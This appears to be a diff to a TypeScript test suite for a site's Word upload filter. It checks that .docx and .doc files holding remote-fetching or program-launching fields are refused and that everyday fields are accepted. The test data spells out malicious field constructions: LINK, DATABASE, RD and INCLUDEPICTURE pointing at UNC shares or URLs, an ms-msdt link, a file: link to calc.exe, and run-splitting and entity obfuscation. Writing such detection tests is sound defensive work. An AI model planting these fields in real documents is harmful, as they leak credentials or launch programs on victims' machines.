@@ -7,7 +7,7 @@ import { parseMultipart, type MultipartResult } from "~/infra/uploads.server";
 import { SYLLABUS_TYPE_MESSAGE } from "~/schemas/course";
 import { ENQUIRY_FILE_TYPE_MESSAGE } from "~/schemas/enquiry";
 import { filesOnDisk, uploadRoot } from "../helpers/stored-files";
-import { multipartRequest, zip } from "./upload-fixtures";
+import { multipartRequest, wordBinary, zip } from "./upload-fixtures";
 
 /**
  * DOCX files that make Word fetch something when a visitor opens a syllabus (or staff an attachment): a
@@ -317,6 +317,88 @@ describe("fields that pull in another file or run a program", () => {
   }
 });
 
+/** A w:fldSimple field in a paragraph; `instr` is written as the attribute's XML text. */
+const simpleField = (instr: string, result = "x") => `<w:p><w:fldSimple w:instr="${instr}"><w:r><w:t>${result}</w:t></w:r></w:fldSimple></w:p>`;
+
+/** word/settings.xml asking Word to update every field when the document opens. */
+const UPDATE_FIELDS: Part = {
+  name: "word/settings.xml",
+  data: wordXml('<w:updateFields w:val="true"/>', "w:settings", "w:compat").replace("<w:compat></w:compat>", ""),
+};
+
+describe("only harmless fields: an allow-list, not a list of bad names", () => {
+  const UNC = "\\\\203.0.113.9\\share\\x.xlsx";
+  const refused: [string, () => Buffer][] = [
+    [
+      "a LINK field with \\a (updated on opening) to a UNC share",
+      () => wordFile(`<w:p>${field([` LINK Excel.Sheet.12 "${UNC}" "Sheet1!R1C1" \\a \\f 4 `])}</w:p>`),
+    ],
+    ["a LINK field to an http URL", () => wordFile(`<w:p>${field([' LINK Excel.Sheet.12 "http://203.0.113.9/x.xlsx" "" \\a '])}</w:p>`)],
+    ["a LINK field split over runs", () => wordFile(`<w:p>${field([" LI", "NK Word.Document.12 ", '"C:\\\\x.docx" \\a'])}</w:p>`)],
+    ["a LINK field in a simple field", () => wordFile(simpleField(` LINK Excel.Sheet.12 &quot;${UNC}&quot; &quot;&quot; \\a `))],
+    ["a LINK field with updateFields on", () => wordFile(`<w:p>${field([' LINK Excel.Sheet.12 "x.xlsx" \\a '])}</w:p>`, { parts: [UPDATE_FIELDS] })],
+    [
+      "a DATABASE field querying a file on a share",
+      () => wordFile(`<w:p>${field([` DATABASE \\d "${UNC}" \\s "SELECT * FROM x" \\h `])}</w:p>`, { parts: [UPDATE_FIELDS] }),
+    ],
+    ["a DATABASE field with a local path only", () => wordFile(`<w:p>${field([' DATABASE \\d "C:\\\\data.mdb" \\s "SELECT 1" '])}</w:p>`)],
+    [
+      "a DATABASE field in a simple field, split from its name by an entity",
+      () => wordFile(simpleField(" DATA&#66;ASE \\d &quot;http://203.0.113.9/d.mdb&quot; ")),
+    ],
+    ["an RD field to a UNC share", () => wordFile(`<w:p>${field([` RD "${UNC}" `])}</w:p>`)],
+    ["an RD field to an http URL", () => wordFile(`<w:p>${field([' RD "http://203.0.113.9/chapter.docx" \\f '])}</w:p>`)],
+    ["an RD field split over runs, in lower case", () => wordFile(`<w:p>${field([" r", 'd "http://203.0.113.9/c.docx"'])}</w:p>`)],
+    ["an RD field in a simple field", () => wordFile(simpleField(" RD &quot;//203.0.113.9/share/c.docx&quot; "))],
+    [
+      "an INCLUDEPICTURE split over five runs with updateFields on",
+      () => wordFile(`<w:p>${field([" IN", "CLU", "DEPIC", "TURE ", '"http://203.0.113.9/p.png" \\d'])}</w:p>`, { parts: [UPDATE_FIELDS] }),
+    ],
+    ["an INCLUDEPICTURE in a simple field, UNC target", () => wordFile(simpleField(` INCLUDEPICTURE &quot;${UNC}&quot; \\d `))],
+    ["a HYPERLINK field to a UNC share", () => wordFile(`<w:p>${field([` HYPERLINK "${UNC}" `])}</w:p>`)],
+    ["a HYPERLINK field to a file: URL", () => wordFile(`<w:p>${field([' HYPERLINK "file:///C:/Windows/System32/calc.exe" '])}</w:p>`)],
+    ["a HYPERLINK field to another program's scheme", () => wordFile(`<w:p>${field([' HYPERLINK "ms-msdt:/id PCWDiagnostic" '])}</w:p>`)],
+    ["a harmless field name with a UNC path in it", () => wordFile(`<w:p>${field([` REF "${UNC}" `])}</w:p>`)],
+    ["a harmless field name with an http URL in it", () => wordFile(simpleField(" QUOTE &quot;http://203.0.113.9/beacon&quot; "))],
+    ["a field name that is not on the list (one Word may add some day)", () => wordFile(`<w:p>${field([" DOCSIGNATURE x "])}</w:p>`)],
+    ["a PRIVATE field (data a converter left, read by nothing we know)", () => wordFile(simpleField(" PRIVATE x "))],
+    ["a MACROBUTTON that runs a Word command", () => wordFile(`<w:p>${field([" MACROBUTTON FileOpen Click here "])}</w:p>`)],
+    ["an instruction that starts with a quote", () => wordFile(`<w:p>${field([' "LINK" x \\a '])}</w:p>`)],
+    [
+      "a LINK field outside any field characters",
+      () => wordFile("<w:p><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:instrText> LINK x \\a</w:instrText></w:r></w:p>"),
+    ],
+  ];
+  for (const [label, make] of refused) {
+    it(`refuses ${label}, as a syllabus and as an attachment`, async () => {
+      await expectRefusedEverywhere(make());
+    });
+  }
+
+  it("takes everyday fields, split over runs and in simple fields, with updateFields on", async () => {
+    const body =
+      `<w:p>${field([" PA", "GE "], "1")} of ${field([" NUM", "PAGES \\* MERGEFORMAT "], "3")}</w:p>` +
+      `<w:p>${field([' DATE \\@ "dd/MM/yyyy" '], "05/01/2026")} ${field([' TIME \\@ "h:mm am/pm" '], "9:30 am")}</w:p>` +
+      `<w:p>${field([' TOC \\o "1-3" \\h \\z \\u '], "")}${field([" REF _Ref123 \\h "], "Week 2")}${field([" SEQ Figure \\* ARABIC "], "1")}</w:p>` +
+      `<w:p>${field([" FORMTEXT "], "Your name")}${field([" FORMCHECKBOX "], "")}${field([" MACROBUTTON NoMacro [Click here and type] "], "")}</w:p>` +
+      `<w:p>${field([' FILLIN "Your name?" \\d "Ravi" '], "Ravi")}${field([' ASK who "Who?" '], "")}${field([" SYMBOL 183 \\f Symbol "], "·")}</w:p>` +
+      `<w:p>${field([" HYPER", 'LINK "https://attack.mitre.org/techniques/T1566/" \\o "MITRE" '], "T1566")}${field([' HYPERLINK \\l "_Toc1" '], "Week 1")}</w:p>` +
+      `<w:p>${field([' HYPERLINK "mailto:admissions@example.in" '], "mail us")}${field([" = 2 * 3 "], "6")}${field([" AUTHOR "], "Asha")}</w:p>` +
+      `<w:p>${field([' ADDIN ZOTERO_ITEM CSL_CITATION {"uris":["http://zotero.org/users/1/items/ABC"]} '], "(NIST, 2012)")}</w:p>` +
+      simpleField(" NUMPAGES ", "3") +
+      simpleField(" HYPERLINK &quot;http://example.in/courses&quot; ", "courses") +
+      simpleField(" DATE \\@ &quot;MMMM d, yyyy&quot; ", "January 5, 2026") +
+      para("Module 7: LINK, DATABASE and RD fields that point at \\\\server\\share or http:// addresses.");
+    await expectAcceptedEverywhere(wordFile(body, { parts: [UPDATE_FIELDS] }));
+  });
+
+  it("takes an embedded object's EMBED field in a syllabus, not in an attachment (no embedded objects there)", async () => {
+    const file = wordFile(simpleField(" EMBED Excel.Sheet.12 "));
+    expect((await upload("syllabusFile", "syllabus.docx", file)).errors).toEqual({});
+    expect((await upload("filePaths", "cv.docx", file)).errors.filePaths).toBe(ENQUIRY_FILE_TYPE_MESSAGE);
+  });
+});
+
 describe("altChunk: another file imported into the document", () => {
   it("refuses a w:altChunk element", async () => {
     await expectRefusedEverywhere(
@@ -413,5 +495,42 @@ describe("the part scanner, fed in chunks of any size", () => {
   it("does not read a part that is not XML (a picture, a font), however it goes on", () => {
     const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47]), Buffer.from("<w:altChunk/><!DOCTYPE x>")]);
     expect(refusedInChunks(png, 3)).toBe(false);
+  });
+});
+
+describe("Word 97-2003 (.doc) files: the same fields, read from the document's text", () => {
+  const F = (instruction: string, result = "x") => `\u0013${instruction}\u0014${result}\u0015`;
+  const UNC = '"\\\\\\\\203.0.113.9\\\\share\\\\x.xls"';
+
+  async function doc(field: string, file: Buffer) {
+    return (await upload(field, field === "filePaths" ? "cv.doc" : "syllabus.doc", file)).errors;
+  }
+
+  const refused: [string, () => Buffer][] = [
+    ["a LINK field with \\a to a UNC share", () => wordBinary([{ text: `Ravi Kumar ${F(` LINK Excel.Sheet.8 ${UNC} "" \\a `)} CV` }])],
+    ["a DATABASE field to an http URL, stored as UTF-16", () => wordBinary([{ text: `CV ${F(' DATABASE \\d "http://203.0.113.9/d.mdb" ')}`, unicode: true }])],
+    [
+      "an RD field split over two pieces of text",
+      () => wordBinary([{ text: `CV \u0013 R` }, { text: `D "http://203.0.113.9/c.doc" \u0014\u0015 end`, unicode: true }]),
+    ],
+    ["an INCLUDEPICTURE inside another field's result", () => wordBinary([{ text: F(" IF 1 = 1 ", F(' INCLUDEPICTURE "http://203.0.113.9/p.png" \\d ')) }])],
+    ["a field whose name a nested field makes", () => wordBinary([{ text: `\u0013${F(" QUOTE 76 73 78 75 ")} "http://203.0.113.9/x"\u0014\u0015` }])],
+  ];
+  for (const [label, make] of refused) {
+    it(`refuses ${label}, as a syllabus and as an attachment`, async () => {
+      const file = make();
+      expect((await doc("syllabusFile", file)).syllabusFile).toBe(SYLLABUS_TYPE_MESSAGE);
+      expect((await doc("filePaths", file)).filePaths).toBe(ENQUIRY_FILE_TYPE_MESSAGE);
+      expect(filesOnDisk()).toEqual([]);
+    });
+  }
+
+  it("takes a CV with page numbers, a date, a web link and a table of contents", async () => {
+    const file = wordBinary([
+      { text: `Ravi Kumar${F(' TOC \\o "1-3" \\h ', "")} Page ${F(" PAGE ", "1")} of ${F(" NUMPAGES ", "2")} ` },
+      { text: `${F(' DATE \\@ "dd/MM/yyyy" ', "05/01/2026")} ${F(' HYPERLINK "https://www.linkedin.com/in/ravi" ', "LinkedIn")} – ok`, unicode: true },
+    ]);
+    expect(await doc("syllabusFile", file)).toEqual({});
+    expect(await doc("filePaths", file)).toEqual({});
   });
 });
